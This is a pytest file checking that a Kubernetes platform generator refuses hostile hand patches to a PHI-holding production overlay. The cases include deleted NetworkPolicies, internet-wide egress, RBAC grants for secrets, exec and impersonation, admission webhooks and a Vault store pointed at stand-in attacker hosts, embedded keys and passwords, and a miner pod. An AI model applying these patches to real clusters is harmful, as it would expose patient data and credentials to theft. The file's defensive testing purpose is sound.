"""The posture gate against real hand patches (issue 22): each case is one patch in production's
`overlays/<env>/patches/` (or one catalog line) that would defeat the platform; `gen render
production` must refuse it: exit 1 with its rule's finding naming the object (or exit 2 at the
catalog line), one line on stderr, nothing written. The patches go through the real kustomize, so
what is judged is what Argo CD would apply, not a hand-made document.

What the cases name (the namespace, a service, a color) is read from the committed catalog."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from blueprints.argocd import application
from blueprints.identities import colors
from generator.catalog import load_catalog
from tests.hostile.harness import PROJECT, Case, check_case, edit

CATALOG = load_catalog(PROJECT)
ENV = CATALOG.environment("production")  # the seed's blue-green environment, holding real PHI
NS = ENV.namespace
COLOR = colors(CATALOG, ENV)[0].value
SERVICE = CATALOG.services.services[0].name
OTHER_SERVICE = f"{CATALOG.services.services[1].name}-{COLOR}"
STORE_USER = next(s for s in CATALOG.services.services if s.databases)
SECRET = f"{STORE_USER.databases[0]}-credentials"
PATCHES = f"overlays/{ENV.name}/patches"
EMPTY = "patches: []  # kustomize refuses a Component with no fields at all"
RENDER = ("render", ENV.name)
OTHER_REPO = "https://github.com/someone/else.git"
RBAC = "rbac.authorization.k8s.io"


def component(fields: str) -> Callable[[Path], None]:
    def setup(project: Path) -> None:
        edit(project, f"{PATCHES}/kustomization.yaml", EMPTY, fields)
    return setup


def json_patch(target: dict[str, str], *ops: dict[str, Any]) -> Callable[[Path], None]:
    """One JSON 6902 patch of every object `target` selects."""
    text = yaml.safe_dump(list(ops), sort_keys=False)
    body = "\n".join("    " + line for line in text.splitlines())
    return component(f"patches:\n- target: {json.dumps(target)}\n  patch: |-\n{body}\n")


def op(kind: str, path: str, value: Any = None) -> dict[str, Any]:
    return {"op": kind, "path": path, **({} if kind == "remove" else {"value": value})}


def add_objects(*objects: dict[str, Any]) -> Callable[[Path], None]:
    def setup(project: Path) -> None:
        (project / PATCHES / "added.yaml").write_text(yaml.safe_dump_all(objects, sort_keys=False))
        component(f"resources: [added.yaml]\n{EMPTY}")(project)
    return setup


def meta(name: str, namespace: str | None = NS) -> dict[str, Any]:
    return {"name": name, **({"namespace": namespace} if namespace else {})}


def role(*rules: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": f"{RBAC}/v1", "kind": "Role", "metadata": meta("granted"), "rules": list(rules)}


def binding(subject: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": f"{RBAC}/v1", "kind": "RoleBinding", "metadata": meta("granted"), "subjects": [subject],
            "roleRef": {"apiGroup": RBAC, "kind": "Role", "name": "granted"}}


def group(name: str) -> dict[str, Any]:
    return {"kind": "Group", "name": name, "apiGroup": RBAC}


SERVICE_ACCOUNT = {"kind": "ServiceAccount", "name": f"{SERVICE}-{COLOR}", "namespace": NS}


def webhook(kind: str) -> dict[str, Any]:
    return {"apiVersion": "admissionregistration.k8s.io/v1", "kind": kind, "metadata": meta("intercept", None),
            "webhooks": [{"name": "intercept.example.com", "clientConfig": {"url": "https://attacker.example/hook"},
                          "admissionReviewVersions": ["v1"], "sideEffects": "None"}]}


PRIVATE_KEY = b"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA" + b"q" * 48 + b"\n-----END RSA PRIVATE KEY-----\n"
DEPLOYMENT = {"kind": "Deployment", "name": SERVICE}
APPLICATION = {"kind": "Application", "name": f"{ENV.name}-{COLOR}"}
CONTAINER = "/spec/template/spec/containers/0"


@dataclass(frozen=True)
class Defeat:
    """A hand patch, and the rule whose finding (on an object named `naming`) must refuse it."""

    id: str
    setup: Callable[[Path], None]
    rule: str
    naming: str = ""


DEFEATS = [
    Defeat("every NetworkPolicy deleted", component(
        "patches:\n- target: {kind: NetworkPolicy}\n  patch: |-\n    $patch: delete\n"
        "    apiVersion: networking.k8s.io/v1\n    kind: NetworkPolicy\n    metadata: {name: any}\n"),
        "GEN-NETWORK-POLICY", f"Namespace/{NS}"),
    Defeat("egress to the two halves of the internet", json_patch(
        {"kind": "NetworkPolicy"}, op("add", "/spec/egress/-", {"to": [{"ipBlock": {"cidr": "0.0.0.0/1"}},
                                                                       {"ipBlock": {"cidr": "128.0.0.0/1"}}]})),
        "GEN-NETWORK-FLOWS", "-> outside"),
    Defeat("a namespaceSelector with an Exists expression", json_patch(
        {"kind": "NetworkPolicy", "name": f"{SERVICE}-{COLOR}"}, op("add", "/spec/ingress/-", {"from": [
            {"namespaceSelector": {"matchExpressions": [{"key": "kubernetes.io/metadata.name",
                                                         "operator": "Exists"}]}}]})),
        "GEN-NETWORK-FLOWS", f"NetworkPolicy/{SERVICE}-{COLOR}"),
    Defeat("an ingress rule without peers", json_patch(
        {"kind": "NetworkPolicy", "name": f"{SERVICE}-{COLOR}"}, op("add", "/spec/ingress/-", {})),
        "GEN-NETWORK-FLOWS", f"NetworkPolicy/{SERVICE}-{COLOR}"),
    Defeat("an allow-all policy beside the default deny", add_objects(
        {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": meta("allow-all"),
         "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]}}),
        "GEN-NETWORK-OPEN", "NetworkPolicy/allow-all"),
    Defeat("Secrets readable by every authenticated user", add_objects(
        role({"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}), binding(group("system:authenticated"))),
        "GEN-RBAC-SUBJECT", "RoleBinding/granted"),
    Defeat("Secrets listed by unauthenticated users", add_objects(
        role({"apiGroups": [""], "resources": ["secrets"], "verbs": ["list"]}), binding(group("system:unauthenticated"))),
        "GEN-RBAC-SECRETS", "Role/granted"),
    Defeat("exec into the platform's pods", add_objects(
        role({"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}), binding(SERVICE_ACCOUNT)),
        "GEN-RBAC-VERBS", "Role/granted"),
    Defeat("minting ServiceAccount tokens", add_objects(
        role({"apiGroups": [""], "resources": ["serviceaccounts/token"], "verbs": ["create"]}), binding(SERVICE_ACCOUNT)),
        "GEN-RBAC-VERBS", "Role/granted"),
    Defeat("escalate and bind", add_objects(
        role({"apiGroups": [RBAC], "resources": ["roles"], "verbs": ["escalate", "bind"]}), binding(SERVICE_ACCOUNT)),
        "GEN-RBAC-VERBS", "Role/granted"),
    Defeat("impersonation", add_objects(
        role({"apiGroups": [""], "resources": ["users"], "verbs": ["impersonate"]}), binding(SERVICE_ACCOUNT)),
        "GEN-RBAC-VERBS", "Role/granted"),
    Defeat("a mutating webhook to an outside URL", add_objects(webhook("MutatingWebhookConfiguration")),
           "GEN-KIND", "MutatingWebhookConfiguration/intercept"),
    Defeat("a validating webhook to an outside URL", add_objects(webhook("ValidatingWebhookConfiguration")),
           "GEN-KIND", "ValidatingWebhookConfiguration/intercept"),
    Defeat("the AppProject open to every cluster kind", json_patch(
        {"kind": "AppProject"}, op("add", "/spec/clusterResourceWhitelist", [{"group": "*", "kind": "*"}])),
        "GEN-ARGOCD-SOURCE", "AppProject/"),
    Defeat("the AppProject open to every repository", json_patch(
        {"kind": "AppProject"}, op("add", "/spec/sourceRepos", ["*"])), "GEN-ARGOCD-SOURCE", "AppProject/"),
    Defeat("an Application from someone else's repository", json_patch(
        {"kind": "Application", "name": f"{ENV.name}-{COLOR}"}, op("replace", "/spec/source/repoURL", OTHER_REPO)),
        "GEN-ARGOCD-SOURCE", f"Application/{ENV.name}-{COLOR}"),
    Defeat("an Application deploying into kube-system", json_patch(
        {"kind": "Application", "name": f"{ENV.name}-{COLOR}"},
        op("replace", "/spec/destination/namespace", "kube-system")),
        "GEN-ARGOCD-SOURCE", f"Application/{ENV.name}-{COLOR}"),
    Defeat("an Ingress to a PHI service without TLS", add_objects(
        {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": meta("direct"), "spec": {"rules": [
            {"host": "direct.example", "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": {
                "service": {"name": f"{SERVICE}-{COLOR}", "port": {"number": 80}}}}]}}]}}),
        "GEN-KIND", "Ingress/direct"),
    Defeat("a LoadBalancer Service", json_patch(
        {"kind": "Service", "name": SERVICE}, op("add", "/spec/type", "LoadBalancer")),
        "GEN-SERVICE-TYPE", f"Service/{SERVICE}"),
    Defeat("a NodePort Service", json_patch(
        {"kind": "Service", "name": SERVICE}, op("add", "/spec/type", "NodePort")),
        "GEN-SERVICE-TYPE", f"Service/{SERVICE}"),
    Defeat("the namespace's Pod Security set to privileged", json_patch(
        {"kind": "Namespace", "name": NS}, op("add", "/metadata/labels/pod-security.kubernetes.io~1enforce",
                                                "privileged")),
        "GEN-POD-SECURITY", f"Namespace/{NS}"),
    Defeat("the namespace's Pod Security label removed", json_patch(
        {"kind": "Namespace", "name": NS}, op("remove", "/metadata/labels/pod-security.kubernetes.io~1enforce")),
        "GEN-POD-SECURITY", f"Namespace/{NS}"),
    Defeat("the token automounted in the pods", json_patch(
        DEPLOYMENT, op("add", "/spec/template/spec/automountServiceAccountToken", True)),
        "GEN-TOKEN", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("every Deployment at 0 replicas", json_patch(
        {"kind": "Deployment"}, op("replace", "/spec/replicas", 0)), "GEN-REPLICAS", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("a private key in ConfigMap binaryData", json_patch(
        {"kind": "ConfigMap"}, op("add", "/binaryData", {"key": base64.b64encode(PRIVATE_KEY).decode()})),
        "GEN-SECRET-MATERIAL", "ConfigMap/"),
    Defeat("a base64-encoded private key in ConfigMap data", json_patch(
        {"kind": "ConfigMap"}, op("add", "/data/tls.key.b64", base64.b64encode(PRIVATE_KEY).decode())),
        "GEN-SECRET-MATERIAL", "ConfigMap/"),
    Defeat("a libpq password in the environment", json_patch(
        DEPLOYMENT, op("add", f"{CONTAINER}/env/-", {"name": "PGPASSWORD", "value": "Xq9vLm2Rt7Kp"})),
        "GEN-SECRET-LITERAL", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("a Stripe live key in an annotation", json_patch(
        DEPLOYMENT, op("add", "/metadata/annotations", {"billing/key": "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"})),
        "GEN-SECRET-MATERIAL", f"Deployment/{SERVICE}-{COLOR}"),
    # a small object (no long word in its JSON) and the password after a newline (escaped `\n` in JSON):
    # a prefilter on the object's JSON text once let this through
    Defeat("a password on the second line of a Service's annotation", json_patch(
        {"kind": "Service", "name": SERVICE}, op("add", "/metadata/annotations",
                                                 {"notes": "rotated by hand\npassword=Xq9vLm2Rt7Kp"})),
        "GEN-SECRET-MATERIAL", f"Service/{SERVICE}"),
    Defeat("a database password in container args", json_patch(
        DEPLOYMENT, op("add", f"{CONTAINER}/args", ["--db-password=Xq9vLm2Rt7Kp"])),
        "GEN-SECRET-LITERAL", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("a Secret's value copied into env", json_patch(
        DEPLOYMENT, op("add", f"{CONTAINER}/env/-", {"name": "DB_PASSWORD", "valueFrom": {
            "secretKeyRef": {"name": SECRET, "key": "password"}}})),
        "GEN-SECRET-REF", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("a whole Secret as envFrom", json_patch(
        DEPLOYMENT, op("add", f"{CONTAINER}/envFrom", [{"secretRef": {"name": SECRET}}])),
        "GEN-SECRET-REF", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("an image from an undeclared registry", json_patch(
        DEPLOYMENT, op("replace", f"{CONTAINER}/image", "ghcr.io/someone/tool:1.0")),
        "GEN-IMAGE-REGISTRY", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("an object every part owns", add_objects(
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta("extra"), "data": {"a": "b"}}),
        "GEN-KIND", "ConfigMap/extra"),
    Defeat("a cluster-scoped object in two parts", add_objects(
        {"apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass", "metadata": meta("urgent", None),
         "value": 1000}), "GEN-OWNER", "PriorityClass/urgent"),
    Defeat("a Deployment running as another service's ServiceAccount", json_patch(
        DEPLOYMENT, op("replace", "/spec/template/spec/serviceAccountName", OTHER_SERVICE)),
        "GEN-WORKLOAD", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("a Deployment running as the namespace's default ServiceAccount", json_patch(
        DEPLOYMENT, op("remove", "/spec/template/spec/serviceAccountName")),
        "GEN-WORKLOAD", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("an unreviewed tag of the service's own image", json_patch(
        DEPLOYMENT, op("replace", f"{CONTAINER}/image", f"{ENV.images.registry}/{SERVICE}:unreviewed")),
        "GEN-IMAGE-DECLARED", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("another image from the declared registry", json_patch(
        DEPLOYMENT, op("replace", f"{CONTAINER}/image", f"{ENV.images.registry}/anything:{ENV.images.tag}")),
        "GEN-IMAGE-DECLARED", f"Deployment/{SERVICE}-{COLOR}"),
    Defeat("Pod Security pinned to an old version of the standard", json_patch(
        {"kind": "Namespace", "name": NS}, op("replace", "/metadata/labels/pod-security.kubernetes.io~1enforce-version",
                                                "v1.20")),
        "GEN-POD-SECURITY", f"Namespace/{NS}"),
    Defeat("automated sync where the catalog says manual", json_patch(
        APPLICATION, op("add", "/spec/syncPolicy/automated", {"prune": True, "selfHeal": True})),
        "GEN-ARGOCD-SOURCE", f"Application/{ENV.name}-{COLOR}"),
    Defeat("an Application at another branch", json_patch(
        APPLICATION, op("replace", "/spec/source/targetRevision", "unreviewed-branch")),
        "GEN-ARGOCD-SOURCE", f"Application/{ENV.name}-{COLOR}"),
    Defeat("an Application that skips the NetworkPolicies", json_patch(
        {"kind": "Application", "name": application(ENV.name, "shared")},
        op("add", "/spec/source/directory/exclude", "networkpolicy-*.yaml")),
        "GEN-ARGOCD-SYNC", "NetworkPolicy/"),
    Defeat("an Application that rewrites images at sync", json_patch(
        APPLICATION, op("add", "/spec/source/kustomize", {"images": [f"{SERVICE}=ghcr.io/someone/tool:1.0"]})),
        "GEN-ARGOCD-SYNC", f"Application/{ENV.name}-{COLOR}"),
    Defeat("the ClusterSecretStore pointed at another Vault", json_patch(
        {"kind": "ClusterSecretStore"}, op("replace", "/spec/provider/vault/server", "https://vault.attacker.example")),
        "GEN-SECRET-STORE", "ClusterSecretStore/"),
    Defeat("the ClusterSecretStore opened to another namespace", json_patch(
        {"kind": "ClusterSecretStore"}, op("add", "/spec/conditions/0/namespaces/-", "default")),
        "GEN-SECRET-STORE", "ClusterSecretStore/"),
    Defeat("an ExternalSecret reading every key of Vault", json_patch(
        {"kind": "ExternalSecret"}, op("add", "/spec/dataFrom", [{"find": {"name": {"regexp": ".*"}}}])),
        "GEN-SECRET-STORE", "ExternalSecret/"),
    Defeat("an ExternalSecret reading another environment's keys", json_patch(
        {"kind": "ExternalSecret"}, op("add", "/spec/dataFrom", [{"extract": {"key": "therapeutic-ai/other-env"}}])),
        "GEN-SECRET-STORE", "ExternalSecret/"),
    Defeat("a Role granting no more than reading ConfigMaps", add_objects(
        role({"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}), binding(SERVICE_ACCOUNT)),
        "GEN-KIND", "Role/granted"),
    Defeat("a Pod in a namespace the environment does not declare", add_objects(
        {"apiVersion": "v1", "kind": "Pod", "metadata": meta("miner", "elsewhere"),
         "spec": {"containers": [{"name": "c", "image": "ghcr.io/someone/miner:1"}]}}),
        "GEN-NAMESPACE", "Pod/miner"),
]


@pytest.mark.parametrize("defeat", DEFEATS, ids=[d.id for d in DEFEATS])
def test_a_hand_patch_that_defeats_the_posture_is_refused(defeat: Defeat, tmp_path: Path) -> None:
    result = check_case(Case(defeat.id, defeat.setup, RENDER, code=1, mentions=("fails validation",)), tmp_path)
    findings = [line for line in result.stdout.splitlines() if f": {defeat.rule}: " in line]
    assert any(defeat.naming in line for line in findings), (defeat.rule, defeat.naming, result.stdout[-3000:])


def test_a_system_namespace_for_the_environment_is_refused_at_its_catalog_line(tmp_path: Path) -> None:
    relative = "blueprints/catalog/environments.yaml"
    marker = f"  - name: {ENV.name}\n"

    def setup(project: Path) -> None:
        edit(project, relative, marker, f"{marker}    namespace: kube-system\n")

    check_case(Case("kube-system", setup, RENDER, code=2, mentions=(relative, ".namespace", "kube-system")), tmp_path)


def test_the_cases_are_distinct_and_cover_the_unwaivable_families() -> None:
    from generator.validation.policies import NEVER_WAIVED

    assert len({d.id for d in DEFEATS}) == len(DEFEATS)
    covered = {d.rule for d in DEFEATS}
    families = ("GEN-NETWORK", "GEN-RBAC", "GEN-KIND", "GEN-ARGOCD", "GEN-SECRET")
    assert all(any(rule.startswith(family) for rule in covered) for family in families), covered
    assert covered & set(NEVER_WAIVED), covered
